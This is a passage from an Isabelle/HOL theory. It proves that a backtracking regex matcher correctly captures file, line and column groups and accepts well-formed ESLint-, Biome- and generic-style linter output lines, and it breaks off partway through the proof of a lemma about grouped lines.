  then show ?case by simp
next
  case (Cons x xs)
  then have x: "atomMatches ic a x"
    by (auto split: if_splits)
  show ?case
  proof (cases "mt ic rs xs m")
    case None
    with Cons.prems x have "mt ic (PlusLazy a # rs) xs m = Some r"
      by simp
    then obtain pre post where "xs = pre @ post" "\<forall>x \<in> set pre. atomMatches ic a x"
        "mt ic rs post m = Some r"
      using Cons.IH by blast
    with x have "x # xs = (x # pre) @ post \<and> x # pre \<noteq> []
        \<and> (\<forall>y \<in> set (x # pre). atomMatches ic a y) \<and> mt ic rs post m = Some r"
      by simp
    then show ?thesis by blast
  next
    case (Some r')
    with Cons.prems x have "x # xs = [x] @ xs \<and> [x] \<noteq> []
        \<and> (\<forall>y \<in> set [x]. atomMatches ic a y) \<and> mt ic rs xs m = Some r"
      by simp
    then show ?thesis by blast
  qed
qed

lemma mt_Plus_Some:
  "mt ic (Plus a # rs) s m = Some r \<Longrightarrow>
     \<exists>pre post. s = pre @ post \<and> pre \<noteq> [] \<and> (\<forall>x \<in> set pre. atomMatches ic a x)
        \<and> mt ic rs post m = Some r"
proof (induction s)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  then have x: "atomMatches ic a x"
    by (auto split: if_splits)
  show ?case
  proof (cases "mt ic (Plus a # rs) xs m")
    case None
    with Cons.prems x have "x # xs = [x] @ xs \<and> [x] \<noteq> []
        \<and> (\<forall>y \<in> set [x]. atomMatches ic a y) \<and> mt ic rs xs m = Some r"
      by simp
    then show ?thesis by blast
  next
    case (Some r')
    with Cons.prems x have "mt ic (Plus a # rs) xs m = Some r"
      by simp
    then obtain pre post where "xs = pre @ post" "\<forall>x \<in> set pre. atomMatches ic a x"
        "mt ic rs post m = Some r"
      using Cons.IH by blast
    with x have "x # xs = (x # pre) @ post \<and> x # pre \<noteq> []
        \<and> (\<forall>y \<in> set (x # pre). atomMatches ic a y) \<and> mt ic rs post m = Some r"
      by simp
    then show ?thesis by blast
  qed
qed

lemma mt_keeps_group:
  "mt ic rs s m = Some r \<Longrightarrow> n \<notin> (\<Union>nd \<in> set rs. closes nd) \<Longrightarrow> groups r n = groups m n"
proof (induction ic rs s m rule: mt.induct)
  case (14 ic body rs s m)
  then show ?case
    by (cases "mt ic (body @ rs) s m") auto
next
  case (16 ic a as rs s m)
  then show ?case
    by (cases "mt ic (a @ rs) s m") auto
qed (auto split: if_splits option.splits)

lemma search_Some:
  "search ic re input s = Some r \<Longrightarrow>
     \<exists>pre t. s = pre @ t
       \<and> mt ic re t \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr> = Some r"
proof (induction s)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  show ?case
  proof (cases "mt ic re (x # xs) \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr>")
    case None
    with Cons obtain pre t where "xs = pre @ t"
        "mt ic re t \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr> = Some r"
      by auto
    then have "x # xs = (x # pre) @ t
        \<and> mt ic re t \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr> = Some r"
      by simp
    then show ?thesis by blast
  next
    case (Some r')
    with Cons.prems have "x # xs = [] @ (x # xs)
        \<and> mt ic re (x # xs) \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr> = Some r"
      by simp
    then show ?thesis by blast
  qed
qed

lemma toLowerChar_fixed:
  assumes "toLowerChar x = c" and "c \<notin> set (asciiLower @ latinLower)"
  shows "x = c"
proof (cases "map_of (zip (asciiUpper @ latinUpper) (asciiLower @ latinLower)) x")
  case None
  with assms(1) show ?thesis by (simp add: toLowerChar_def)
next
  case (Some l)
  then have "l \<in> set (asciiLower @ latinLower)"
    by (meson map_of_SomeD set_zip_rightD)
  moreover from Some assms(1) have "l = c" by (simp add: toLowerChar_def)
  ultimately show ?thesis using assms(2) by simp
qed

lemma colon_matches: "atomMatches ic (Ch CHR '':'') x \<Longrightarrow> x = CHR '':''"
proof (cases ic)
  case True
  assume "atomMatches ic (Ch CHR '':'') x"
  with True have "toLowerChar x = toLowerChar CHR '':''" by simp
  moreover have "toLowerChar CHR '':'' = CHR '':''"
    by (simp add: toLowerChar_def asciiUpper_def latinUpper_def asciiLower_def latinLower_def)
  ultimately have "toLowerChar x = CHR '':''" by simp
  moreover have "CHR '':'' \<notin> set (asciiLower @ latinLower)"
    by (simp add: asciiLower_def latinLower_def)
  ultimately show ?thesis by (rule toLowerChar_fixed)
next
  case False
  assume "atomMatches ic (Ch CHR '':'') x"
  with False show ?thesis by simp
qed

lemma location_fields:
  assumes "mt ic (locationRe @ tail) s m = Some r"
  shows "\<exists>f l c rest m'.
           s = f @ CHR '':'' # l @ CHR '':'' # c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> groups m' 1 = Some f \<and> groups m' 2 = Some l \<and> groups m' 3 = Some c
           \<and> mt ic tail rest m' = Some r
           \<and> length s = length (whole m)"
proof -
  let ?m1 = "m\<lparr>starts := (starts m)(1 := s)\<rparr>"
  from assms have bol: "length s = length (whole m)"
    and 1: "mt ic (PlusLazy Dot # Close 1 # Atom (Ch CHR '':'') # Open 2 # Plus Digit # Close 2
              # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail) s ?m1 = Some r"
    by (simp_all add: locationRe_def split: if_splits)
  from mt_PlusLazy_Some [OF 1] obtain f p1 where f: "s = f @ p1" "f \<noteq> []"
    and 2: "mt ic (Close 1 # Atom (Ch CHR '':'') # Open 2 # Plus Digit # Close 2
              # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail) p1 ?m1 = Some r"
    by blast
  let ?m2 = "?m1\<lparr>groups := (groups ?m1)(1 \<mapsto> f)\<rparr>"
  from 2 f have 3: "mt ic (Atom (Ch CHR '':'') # Open 2 # Plus Digit # Close 2
              # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail) p1 ?m2 = Some r"
    by simp
  then obtain x p2 where p1: "p1 = x # p2" "atomMatches ic (Ch CHR '':'') x"
    and 4: "mt ic (Open 2 # Plus Digit # Close 2
              # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail) p2 ?m2 = Some r"
    unfolding mt_Atom_Some by blast
  from p1 have x: "x = CHR '':''" by (simp add: colon_matches)
  let ?m3 = "?m2\<lparr>starts := (starts ?m2)(2 := p2)\<rparr>"
  from 4 have 5: "mt ic (Plus Digit # Close 2
              # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail) p2 ?m3 = Some r"
    by simp
  from mt_Plus_Some [OF 5] obtain l p3 where l: "p2 = l @ p3" "l \<noteq> []"
      "\<forall>y \<in> set l. atomMatches ic Digit y"
    and 6: "mt ic (Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
              p3 ?m3 = Some r"
    by blast
  let ?m4 = "?m3\<lparr>groups := (groups ?m3)(2 \<mapsto> l)\<rparr>"
  from 6 l have 7: "mt ic (Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
              p3 ?m4 = Some r"
    by simp
  then obtain y p4 where p3: "p3 = y # p4" "atomMatches ic (Ch CHR '':'') y"
    and 8: "mt ic (Open 3 # Plus Digit # Close 3 # tail) p4 ?m4 = Some r"
    unfolding mt_Atom_Some by blast
  from p3 have y: "y = CHR '':''" by (simp add: colon_matches)
  let ?m5 = "?m4\<lparr>starts := (starts ?m4)(3 := p4)\<rparr>"
  from 8 have 9: "mt ic (Plus Digit # Close 3 # tail) p4 ?m5 = Some r"
    by simp
  from mt_Plus_Some [OF 9] obtain c rest where c: "p4 = c @ rest" "c \<noteq> []"
      "\<forall>y \<in> set c. atomMatches ic Digit y"
    and 10: "mt ic (Close 3 # tail) rest ?m5 = Some r"
    by blast
  let ?m6 = "?m5\<lparr>groups := (groups ?m5)(3 \<mapsto> c)\<rparr>"
  from 10 c have 11: "mt ic tail rest ?m6 = Some r"
    by simp
  have "s = f @ CHR '':'' # l @ CHR '':'' # c @ rest"
    using f p1 x l p3 y c by simp
  moreover have "set l \<subseteq> set asciiDigits" "set c \<subseteq> set asciiDigits"
    using l c by auto
  moreover have "groups ?m6 1 = Some f" "groups ?m6 2 = Some l" "groups ?m6 3 = Some c"
    by simp_all
  ultimately show ?thesis
    using f l c 11 bol by blast
qed

lemma regexMatch_location:
  assumes "regexMatch ic (locationRe @ tail) ln = Some g"
    and "{1, 2, 3} \<inter> (\<Union>nd \<in> set tail. closes nd) = {}"
  shows "\<exists>f l c rest.
           ln = f @ CHR '':'' # l @ CHR '':'' # c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> g 1 = Some f \<and> g 2 = Some l \<and> g 3 = Some c"
proof -
  let ?init = "\<lparr>whole = ln, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr>"
  from assms(1) obtain r where r: "search ic (locationRe @ tail) ln ln = Some r" "g = groups r"
    by (auto simp: regexMatch_def)
  from search_Some [OF r(1)] obtain pre t where t: "ln = pre @ t"
      "mt ic (locationRe @ tail) t ?init = Some r"
    by blast
  from location_fields [OF t(2)] obtain f l c rest m' where
      fields: "t = f @ CHR '':'' # l @ CHR '':'' # c @ rest" "f \<noteq> []" "l \<noteq> []" "c \<noteq> []"
        "set l \<subseteq> set asciiDigits" "set c \<subseteq> set asciiDigits"
        "groups m' 1 = Some f" "groups m' 2 = Some l" "groups m' 3 = Some c"
      and tail: "mt ic tail rest m' = Some r"
      and len: "length t = length (whole ?init)"
    by blast
  from len t(1) have "pre = []" by simp
  with t(1) have "t = ln" by simp
  moreover have "groups r 1 = groups m' 1" "groups r 2 = groups m' 2" "groups r 3 = groups m' 3"
    using assms(2) by (auto intro!: mt_keeps_group [OF tail])
  ultimately show ?thesis
    using fields r(2) by auto
qed

lemma eslintRe_location:
  "eslintRe = locationRe @
     [Atom (Ch CHR '':''), Star Space,
      Open 4, Alt [lit ''error'', lit ''warning''], Close 4, Plus Space,
      Open 5, PlusLazy Dot, Close 5,
      Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6, Atom (Ch CHR '']'')],
      Eol]"
  by (simp add: eslintRe_def locationRe_def)

lemma biomeRe_location:
  "biomeRe = locationRe @
     [Plus Space,
      Open 4, Plus WordChar, Atom (Ch CHR ''/''), Plus WordChar, Close 4, Plus Space,
      Open 5, Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''], Close 5, Plus Space,
      Open 6, Plus Dot, Close 6,
      Eol]"
  by (simp add: biomeRe_def locationRe_def)

lemma genericRe_location:
  "genericRe = locationRe @
     [Atom (Ch CHR '':''), Star Space, Open 4, Plus Dot, Close 4, Eol]"
  by (simp add: genericRe_def locationRe_def)

lemma parser_match_location:
  assumes "regexMatch True eslintRe ln = Some g \<or> regexMatch True biomeRe ln = Some g
           \<or> regexMatch False genericRe ln = Some g"
  shows "\<exists>f l c rest.
           ln = f @ CHR '':'' # l @ CHR '':'' # c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> grp g 1 = f \<and> grp g 2 = l \<and> grp g 3 = c"
proof -
  have "\<exists>f l c rest.
           ln = f @ CHR '':'' # l @ CHR '':'' # c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> g 1 = Some f \<and> g 2 = Some l \<and> g 3 = Some c"
    using assms
  proof (elim disjE)
    assume "regexMatch True eslintRe ln = Some g"
    then show ?thesis
      unfolding eslintRe_location by (rule regexMatch_location) (simp add: lit_def)
  next
    assume "regexMatch True biomeRe ln = Some g"
    then show ?thesis
      unfolding biomeRe_location by (rule regexMatch_location) (simp add: lit_def)
  next
    assume "regexMatch False genericRe ln = Some g"
    then show ?thesis
      unfolding genericRe_location by (rule regexMatch_location) simp
  qed
  then show ?thesis
    by (auto simp: grp_def)
qed

subsection \<open>Patterns that accept\<close>

lemma accepted_Nil: "accepted ic [] s"
  by (simp add: accepted_def)

lemma accepted_Eol: "accepted ic rs [] \<Longrightarrow> accepted ic (Eol # rs) []"
  by (simp add: accepted_def)

lemma accepted_Open: "accepted ic rs s \<Longrightarrow> accepted ic (Open n # rs) s"
  by (simp add: accepted_def)

lemma accepted_Close: "accepted ic rs s \<Longrightarrow> accepted ic (Close n # rs) s"
  by (simp add: accepted_def)

lemma accepted_Atom:
  "atomMatches ic a x \<Longrightarrow> accepted ic rs xs \<Longrightarrow> accepted ic (Atom a # rs) (x # xs)"
  by (simp add: accepted_def)

lemma accepted_Opt_skipped: "accepted ic rs s \<Longrightarrow> accepted ic (Opt body # rs) s"
  by (auto simp: accepted_def split: option.splits)

lemma accepted_Alt_first:
  assumes "accepted ic (b @ rs) s"
  shows "accepted ic (Alt (b # bs) # rs) s"
  unfolding accepted_def
proof
  fix m
  from assms have "mt ic (b @ rs) s m \<noteq> None"
    by (simp add: accepted_def)
  then show "mt ic (Alt (b # bs) # rs) s m \<noteq> None"
    by (cases "mt ic (b @ rs) s m") simp_all
qed

lemma accepted_Alt_next: "accepted ic (Alt bs # rs) s \<Longrightarrow> accepted ic (Alt (b # bs) # rs) s"
  by (auto simp: accepted_def split: option.splits)

lemma accepted_Plus:
  assumes "pre \<noteq> []" and "\<forall>x \<in> set pre. atomMatches ic a x" and "accepted ic rs post"
  shows "accepted ic (Plus a # rs) (pre @ post)"
  unfolding accepted_def
proof
  fix m
  from assms(3) have rs: "mt ic rs post m \<noteq> None"
    by (simp add: accepted_def)
  from assms(1,2) show "mt ic (Plus a # rs) (pre @ post) m \<noteq> None"
  proof (induction pre rule: list_nonempty_induct)
    case (single x)
    with rs show ?case
      by (cases "mt ic (Plus a # rs) post m") simp_all
  next
    case (cons x xs)
    then show ?case
      by (cases "mt ic (Plus a # rs) (xs @ post) m") simp_all
  qed
qed

lemma accepted_PlusLazy:
  assumes "pre \<noteq> []" and "\<forall>x \<in> set pre. atomMatches ic a x" and "accepted ic rs post"
  shows "accepted ic (PlusLazy a # rs) (pre @ post)"
  unfolding accepted_def
proof
  fix m
  from assms(3) have rs: "mt ic rs post m \<noteq> None"
    by (simp add: accepted_def)
  from assms(1,2) show "mt ic (PlusLazy a # rs) (pre @ post) m \<noteq> None"
  proof (induction pre rule: list_nonempty_induct)
    case (single x)
    with rs show ?case
      by (cases "mt ic rs post m") simp_all
  next
    case (cons x xs)
    then show ?case
      by (cases "mt ic rs (xs @ post) m") simp_all
  qed
qed

lemma accepted_Star_none: "accepted ic rs post \<Longrightarrow> accepted ic (Star a # rs) post"
  unfolding accepted_def
proof
  fix m
  assume "\<forall>m. mt ic rs post m \<noteq> None"
  then have rs: "mt ic rs post m \<noteq> None" ..
  show "mt ic (Star a # rs) post m \<noteq> None"
  proof (cases post)
    case Nil
    with rs show ?thesis by simp
  next
    case (Cons y ys)
    with rs show ?thesis
      by (cases "mt ic (Star a # rs) ys m") simp_all
  qed
qed

lemma accepted_Star_one:
  assumes "atomMatches ic a x" and "accepted ic rs post"
  shows "accepted ic (Star a # rs) (x # post)"
  unfolding accepted_def
proof
  fix m
  from assms(2) have "accepted ic (Star a # rs) post"
    by (rule accepted_Star_none)
  then have "mt ic (Star a # rs) post m \<noteq> None"
    by (simp add: accepted_def)
  with assms(1) show "mt ic (Star a # rs) (x # post) m \<noteq> None"
    by (cases "mt ic (Star a # rs) post m") simp_all
qed

lemma accepted_Plus_one:
  "atomMatches ic a x \<Longrightarrow> accepted ic rs post \<Longrightarrow> accepted ic (Plus a # rs) (x # post)"
  using accepted_Plus [of "[x]" ic a rs post] by simp

lemma accepted_lit:
  "map toLowerChar t = map toLowerChar w \<Longrightarrow> accepted True rs s \<Longrightarrow>
     accepted True (lit w @ rs) (t @ s)"
proof (induction w arbitrary: t)
  case Nil
  then show ?case by (simp add: lit_def)
next
  case (Cons c w)
  then obtain x xs where t: "t = x # xs" "toLowerChar x = toLowerChar c"
      "map toLowerChar xs = map toLowerChar w"
    by (cases t) auto
  with Cons have "accepted True (lit w @ rs) (xs @ s)"
    by simp
  with t show ?case
    by (simp add: lit_def accepted_def)
qed

lemma regexMatch_accepted:
  assumes "accepted ic rs ln"
  shows "regexMatch ic (Bol # rs) ln \<noteq> None"
proof -
  let ?init = "\<lparr>whole = ln, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr>"
  from assms have "mt ic (Bol # rs) ln ?init \<noteq> None"
    by (simp add: accepted_def)
  then have "search ic (Bol # rs) ln ln \<noteq> None"
    by (cases ln) (auto split: option.splits)
  then show ?thesis
    by (simp add: regexMatch_def)
qed

subsection \<open>The first match of the location\<close>

lemma colon_matches_colon: "atomMatches ic (Ch CHR '':'') CHR '':''"
  by simp

lemma lazy_until_colon:
  assumes "pre \<noteq> []"
    and "\<forall>x \<in> set pre. atomMatches ic Dot x \<and> x \<noteq> CHR '':''"
    and "mt ic (Close n # Atom (Ch CHR '':'') # rs) (CHR '':'' # s) m = Some r"
  shows "mt ic (PlusLazy Dot # Close n # Atom (Ch CHR '':'') # rs) (pre @ CHR '':'' # s) m
           = Some r"
  using assms
proof (induction pre rule: list_nonempty_induct)
  case (single x)
  then show ?case by simp
next
  case (cons x xs)
  then obtain y ys where xs: "xs = y # ys" "y \<noteq> CHR '':''"
    by (cases xs) auto
  then have "\<not> atomMatches ic (Ch CHR '':'') y"
    using colon_matches by blast
  then have "mt ic (Close n # Atom (Ch CHR '':'') # rs) (xs @ CHR '':'' # s) m = None"
    using xs by simp
  moreover have "mt ic (PlusLazy Dot # Close n # Atom (Ch CHR '':'') # rs)
                   (xs @ CHR '':'' # s) m = Some r"
    using cons by simp
  ultimately show ?case
    using cons.prems by simp
qed

lemma greedy_to_the_end:
  assumes "pre \<noteq> []"
    and "\<forall>x \<in> set pre. atomMatches ic a x"
    and "s = [] \<or> \<not> atomMatches ic a (hd s)"
    and "mt ic rs s m = Some r"
  shows "mt ic (Plus a # rs) (pre @ s) m = Some r"
  using assms
proof (induction pre rule: list_nonempty_induct)
  case (single x)
  then have "mt ic (Plus a # rs) s m = None"
    by (cases s) auto
  with single show ?case by simp
next
  case (cons x xs)
  then have "mt ic (Plus a # rs) (xs @ s) m = Some r"
    by simp
  with cons.prems show ?case by simp
qed

lemma location_first_match:
  assumes path: "path \<noteq> []"
      "\<forall>x \<in> set path. x \<noteq> CHR '':'' \<and> x \<noteq> CHR 0x0A \<and> x \<noteq> CHR 0x0D"
    and l: "l \<noteq> []" "set l \<subseteq> set asciiDigits"
    and c: "c \<noteq> []" "set c \<subseteq> set asciiDigits"
    and rest: "rest = [] \<or> hd rest \<notin> set asciiDigits"
    and ln: "ln = path @ CHR '':'' # l @ CHR '':'' # c @ rest"
    and whole: "length (whole m) = length ln"
  shows "\<exists>m'. groups m' 1 = Some path \<and> groups m' 2 = Some l \<and> groups m' 3 = Some c
           \<and> (\<forall>n. n \<notin> {1, 2, 3} \<longrightarrow> groups m' n = groups m n)
           \<and> (\<forall>r. mt ic tail rest m' = Some r \<longrightarrow> mt ic (locationRe @ tail) ln m = Some r)"
proof -
  let ?m1 = "m\<lparr>starts := (starts m)(1 := ln)\<rparr>"
  let ?m2 = "?m1\<lparr>groups := (groups ?m1)(1 \<mapsto> path)\<rparr>"
  let ?s2 = "l @ CHR '':'' # c @ rest"
  let ?m3 = "?m2\<lparr>starts := (starts ?m2)(2 := ?s2)\<rparr>"
  let ?m4 = "?m3\<lparr>groups := (groups ?m3)(2 \<mapsto> l)\<rparr>"
  let ?s3 = "c @ rest"
  let ?m5 = "?m4\<lparr>starts := (starts ?m4)(3 := ?s3)\<rparr>"
  let ?m6 = "?m5\<lparr>groups := (groups ?m5)(3 \<mapsto> c)\<rparr>"
  have colon: "CHR '':'' \<notin> set asciiDigits"
    by (simp add: asciiDigits_def)
  have "mt ic (locationRe @ tail) ln m = Some r" if t: "mt ic tail rest ?m6 = Some r" for r
  proof -
    from t have "mt ic (Close 3 # tail) rest ?m5 = Some r"
      by simp
    with c rest have "mt ic (Plus Digit # Close 3 # tail) ?s3 ?m5 = Some r"
      by (intro greedy_to_the_end) auto
    then have "mt ic (Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
                 (CHR '':'' # ?s3) ?m3 = Some r"
      by simp
    with l colon have "mt ic (Plus Digit # Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit
                 # Close 3 # tail) (l @ CHR '':'' # ?s3) ?m3 = Some r"
      by (intro greedy_to_the_end) auto
    then have "mt ic (Close 1 # Atom (Ch CHR '':'') # Open 2 # Plus Digit # Close 2
                 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
                 (CHR '':'' # ?s2) ?m1 = Some r"
      using ln by simp
    with path have "mt ic (PlusLazy Dot # Close 1 # Atom (Ch CHR '':'') # Open 2 # Plus Digit
                 # Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
                 (path @ CHR '':'' # ?s2) ?m1 = Some r"
      by (intro lazy_until_colon) auto
    then show ?thesis
      using ln whole by (simp add: locationRe_def)
  qed
  moreover have "groups ?m6 1 = Some path" "groups ?m6 2 = Some l" "groups ?m6 3 = Some c"
      "\<forall>n. n \<notin> {1, 2, 3} \<longrightarrow> groups ?m6 n = groups m n"
    by simp_all
  ultimately show ?thesis
    by blast
qed

section \<open>Properties of the parser\<close>

lemma parseStep_append: "parseStep errors ln = errors @ parseStep [] ln"
  by (simp add: parseStep_def split: option.splits)

lemma foldl_parseStep:
  "foldl parseStep acc lns = acc @ concat (map (parseStep []) lns)"
proof (induction lns arbitrary: acc)
  case Nil
  show ?case by simp
next
  case (Cons ln lns)
  have "foldl parseStep acc (ln # lns) = foldl parseStep (acc @ parseStep [] ln) lns"
    using parseStep_append [of acc ln] by simp
  then show ?case by (simp add: Cons.IH)
qed

lemma parseLintOutput_concat:
  "parseLintOutput output = concat (map (parseStep []) (split_on (CHR 0x0A) output))"
  by (simp add: parseLintOutput_def foldl_parseStep)

subsection \<open>The well-formed lines are accepted\<close>

lemma accepted_location:
  assumes "oneLineText path"
    and "l \<noteq> []" "set l \<subseteq> set asciiDigits"
    and "c \<noteq> []" "set c \<subseteq> set asciiDigits"
    and "accepted ic tail rest"
  shows "regexMatch ic (locationRe @ tail) (path @ CHR '':'' # l @ CHR '':'' # c @ rest) \<noteq> None"
proof -
  have 1: "accepted ic (Close 3 # tail) rest"
    using assms(6) by (rule accepted_Close)
  have "accepted ic (Plus Digit # Close 3 # tail) (c @ rest)"
    using assms(4,5) 1 by (intro accepted_Plus) auto
  then have 2: "accepted ic (Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
                  (CHR '':'' # c @ rest)"
    by (intro accepted_Close accepted_Atom accepted_Open colon_matches_colon)
  have "accepted ic (Plus Digit # Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3
                  # tail) (l @ CHR '':'' # c @ rest)"
    using assms(2,3) 2 by (intro accepted_Plus) auto
  then have 3: "accepted ic (Close 1 # Atom (Ch CHR '':'') # Open 2 # Plus Digit # Close 2
                  # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
                  (CHR '':'' # l @ CHR '':'' # c @ rest)"
    by (intro accepted_Close accepted_Atom accepted_Open colon_matches_colon)
  have "accepted ic (PlusLazy Dot # Close 1 # Atom (Ch CHR '':'') # Open 2 # Plus Digit # Close 2
                  # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3 # tail)
                  (path @ CHR '':'' # l @ CHR '':'' # c @ rest)"
    using assms(1) 3 by (intro accepted_PlusLazy) (auto simp: oneLineText_def)
  then have "accepted ic (Open 1 # PlusLazy Dot # Close 1 # Atom (Ch CHR '':'') # Open 2
                  # Plus Digit # Close 2 # Atom (Ch CHR '':'') # Open 3 # Plus Digit # Close 3
                  # tail) (path @ CHR '':'' # l @ CHR '':'' # c @ rest)"
    by (rule accepted_Open)
  then show ?thesis
    using regexMatch_accepted by (simp add: locationRe_def)
qed

lemma accepted_text_to_end:
  assumes "oneLineText msg" and "accepted ic rs []"
  shows "accepted ic (Plus Dot # rs) msg" and "accepted ic (PlusLazy Dot # rs) msg"
proof -
  from assms have "accepted ic (Plus Dot # rs) (msg @ [])"
    by (intro accepted_Plus) (auto simp: oneLineText_def)
  then show "accepted ic (Plus Dot # rs) msg" by simp
  from assms have "accepted ic (PlusLazy Dot # rs) (msg @ [])"
    by (intro accepted_PlusLazy) (auto simp: oneLineText_def)
  then show "accepted ic (PlusLazy Dot # rs) msg" by simp
qed

lemma space_is_Space: "atomMatches ic Space CHR '' ''"
  by (simp add: isWhiteSpace_def)

lemma severity_word:
  "toLowerCase sev = w \<Longrightarrow> toLowerCase w' = w \<Longrightarrow> accepted True rs s \<Longrightarrow>
     accepted True (lit w' @ rs) (sev @ s)"
  by (rule accepted_lit) (simp add: toLowerCase_def)

lemmas lower_words =
  toLowerCase_def toLowerChar_def asciiUpper_def asciiLower_def latinUpper_def latinLower_def

lemma commonLine_accepted:
  assumes "commonLine ln"
  shows "regexMatch True eslintRe ln \<noteq> None"
proof -
  from assms obtain path l c sev msg where
      ln: "ln = path @ '':'' @ l @ '':'' @ c @ '': '' @ sev @ '' '' @ msg"
      and path: "oneLineText path"
      and l: "positiveInteger l" and c: "positiveInteger c"
      and sev: "toLowerCase sev = ''error'' \<or> toLowerCase sev = ''warning''"
      and msg: "oneLineText msg"
    unfolding commonLine_def by blast
  let ?after = "[Close 4, Plus Space, Open 5, PlusLazy Dot, Close 5,
      Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6, Atom (Ch CHR '']'')],
      Eol]"
  have "accepted True [Close 5,
      Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6, Atom (Ch CHR '']'')],
      Eol] []"
    by (intro accepted_Close accepted_Opt_skipped accepted_Eol accepted_Nil)
  with msg have "accepted True [PlusLazy Dot, Close 5,
      Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6, Atom (Ch CHR '']'')],
      Eol] msg"
    by (rule accepted_text_to_end)
  then have after: "accepted True ?after (CHR '' '' # msg)"
    by (intro accepted_Close accepted_Plus_one accepted_Open space_is_Space)
  have "accepted True (Alt [lit ''error'', lit ''warning''] # ?after) (sev @ CHR '' '' # msg)"
    using sev
  proof
    assume "toLowerCase sev = ''error''"
    then have "accepted True (lit ''error'' @ ?after) (sev @ CHR '' '' # msg)"
      by (rule severity_word) (simp_all add: lower_words after)
    then show ?thesis
      by (rule accepted_Alt_first)
  next
    assume "toLowerCase sev = ''warning''"
    then have "accepted True (lit ''warning'' @ ?after) (sev @ CHR '' '' # msg)"
      by (rule severity_word) (simp_all add: lower_words after)
    then show ?thesis
      by (intro accepted_Alt_next accepted_Alt_first)
  qed
  then have "accepted True
      (Atom (Ch CHR '':'') # Star Space # Open 4 # Alt [lit ''error'', lit ''warning''] # ?after)
      (CHR '':'' # CHR '' '' # sev @ CHR '' '' # msg)"
    by (intro accepted_Atom accepted_Star_one accepted_Open colon_matches_colon space_is_Space)
  with path l c have "regexMatch True (locationRe @
      Atom (Ch CHR '':'') # Star Space # Open 4 # Alt [lit ''error'', lit ''warning''] # ?after)
      (path @ CHR '':'' # l @ CHR '':'' # c @ CHR '':'' # CHR '' '' # sev @ CHR '' '' # msg)
      \<noteq> None"
    by (intro accepted_location) (auto simp: positiveInteger_def)
  then show ?thesis
    by (simp add: eslintRe_location ln)
qed

lemma genericLine_accepted:
  assumes "genericLine ln"
  shows "regexMatch False genericRe ln \<noteq> None"
proof -
  from assms obtain path l c msg where
      ln: "ln = path @ '':'' @ l @ '':'' @ c @ '': '' @ msg"
      and path: "oneLineText path"
      and l: "positiveInteger l" and c: "positiveInteger c"
      and msg: "oneLineText msg"
    unfolding genericLine_def by blast
  have "accepted False [Close 4, Eol] []"
    by (intro accepted_Close accepted_Eol accepted_Nil)
  with msg have "accepted False [Plus Dot, Close 4, Eol] msg"
    by (rule accepted_text_to_end)
  then have "accepted False [Atom (Ch CHR '':''), Star Space, Open 4, Plus Dot, Close 4, Eol]
      (CHR '':'' # CHR '' '' # msg)"
    by (intro accepted_Atom accepted_Star_one accepted_Open colon_matches_colon space_is_Space)
  with path l c have "regexMatch False (locationRe @
      [Atom (Ch CHR '':''), Star Space, Open 4, Plus Dot, Close 4, Eol])
      (path @ CHR '':'' # l @ CHR '':'' # c @ CHR '':'' # CHR '' '' # msg) \<noteq> None"
    by (intro accepted_location) (auto simp: positiveInteger_def)
  then show ?thesis
    by (simp add: genericRe_location ln)
qed

lemma groupedLine_accepted:
  assumes "groupedLine ln"
  shows "regexMatch True biomeRe ln \<noteq> None"
proof -
  from assms obtain path l c rule1 rule2 sev msg where
      ln: "ln = path @ '':'' @ l @ '':'' @ c @ '' '' @ rule1 @ ''/'' @ rule2 @ '' '' @ sev
             @ '' '' @ msg"
      and path: "oneLineText path"
      and l: "positiveInteger l" and c: "positiveInteger c"
      and rules: "wordToken rule1" "wordToken rule2"
      and sev: "toLowerCase sev = ''error'' \<or> toLowerCase sev = ''warning''
             \<or> toLowerCase sev = ''warn''"
      and msg: "oneLineText msg"
    unfolding groupedLine_def by blast
